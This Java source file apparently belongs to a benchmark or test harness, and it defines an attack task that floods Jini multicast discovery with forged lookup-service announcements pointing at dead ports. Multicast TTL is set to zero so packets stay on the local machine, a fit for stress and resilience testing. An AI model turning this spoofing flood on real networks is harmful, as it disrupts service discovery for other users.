package org.dfra.app.bench.attack;

import com.sun.jini.discovery.Discovery;
import com.sun.jini.discovery.EncodeIterator;
import com.sun.jini.discovery.MulticastAnnouncement;
import java.net.DatagramPacket;
import java.net.MulticastSocket;
import java.util.Random;
import net.jini.core.constraint.InvocationConstraints;
import net.jini.core.lookup.ServiceID;

/**
 * Announces a hundred lookup services a second, by multicast, each another one at a port of the
 * attacker's where nobody answers. No datagram leaves this computer.
 */
public final class RogueAnnouncements extends AttackTask {

  private static final long PERIOD_MILLIS = 10;
  private static final int PACKET = 512;
  private static final int FIRST_PORT = 10_000;
  private static final int PORTS = 10_000;

  private final Random random = new Random(66);
  private String[] groups = {};

  /** As every task is made. */
  public RogueAnnouncements() {}

  @Override
  protected void prepare(Target target) throws Exception {
    groups = target.registrar().getGroups();
  }

  @Override
  protected void attack(Target target) throws Exception {
    try (MulticastSocket socket = new MulticastSocket()) {
      socket.setTimeToLive(0);
      while (!isStopping()) {
        int port = FIRST_PORT + random.nextInt(PORTS);
        for (int i = 0; i < 100 && !isStopping(); i++) {
          var unused = attempt(() -> announce(socket, target.source(), port));
          pause(PERIOD_MILLIS);
        }
      }
    }
  }

  private int announce(MulticastSocket socket, String host, int port) throws Exception {
    ServiceID id = new ServiceID(random.nextLong(), random.nextLong());
    EncodeIterator packets =
        Discovery.getProtocol1()
            .encodeMulticastAnnouncement(
                new MulticastAnnouncement(0, host, port, groups, id),
                PACKET,
                InvocationConstraints.EMPTY);
    int sent = 0;
    while (packets.hasNext()) {
      for (DatagramPacket each : packets.next()) {
        socket.send(each);
        sent++;
      }
    }
    return sent;
  }
}
